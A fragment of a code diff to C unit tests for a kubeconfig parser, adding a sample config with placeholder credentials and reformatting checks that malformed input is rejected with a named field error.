+      "contexts:\n- name: x1\n  context:\n    cluster: c1\n    user: u1\n"
+      "    namespace: twistlock\n    extensions:\n    - name: context_info\n"
+      "      extension: {last-update: 'Mon, 01 Jan 2024'}\n"
+      "current-context: x1\n");
+  kube_text_ok(
+      "{\"apiVersion\":\"v1\",\"clusters\":[{\"name\":\"c1\",\"cluster\":{\"server\":"
+      "\"https://j\",\"certificate-authority-data\":\"LS0t\"}}],\"users\":[{\"name\":"
+      "\"u1\",\"user\":{\"username\":\"a\",\"password\":\"b\"}}],\"contexts\":[{\"name\":"
+      "\"x1\",\"context\":{\"cluster\":\"c1\",\"user\":\"u1\"}}],\"current-context\":\"x1\","
+      "\"preferences\":{}}");
 }
 
 static void test_kube_malformed(void **state)
@@ -1464,8 +1496,8 @@ static void test_kube_malformed(void **state)
   for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
     kube_text_fails(bad[i], "kubeconfig:");
   /* Through the provider too: secret.plain is named, no crash, no output. */
-  expect_fail("kubeconfig", body_with("kubeconfig", "secret", "clusters: [", NULL),
-              CS_ERR_INVALID, "secret.plain");
+  expect_fail("kubeconfig", body_with("kubeconfig", "secret", "clusters: [", NULL), CS_ERR_INVALID,
+              "secret.plain");
   expect_fail("kubeconfig", json("{}"), CS_ERR_MISSING, "secret.plain");
   expect_fail("kubeconfig", json("{\"secret\":{\"plain\":1}}"), CS_ERR_INVALID, "secret.plain");
   expect_fail("kubeconfig", json("{\"secret\":\"apiVersion: v1\"}"), CS_ERR_INVALID, "secret");
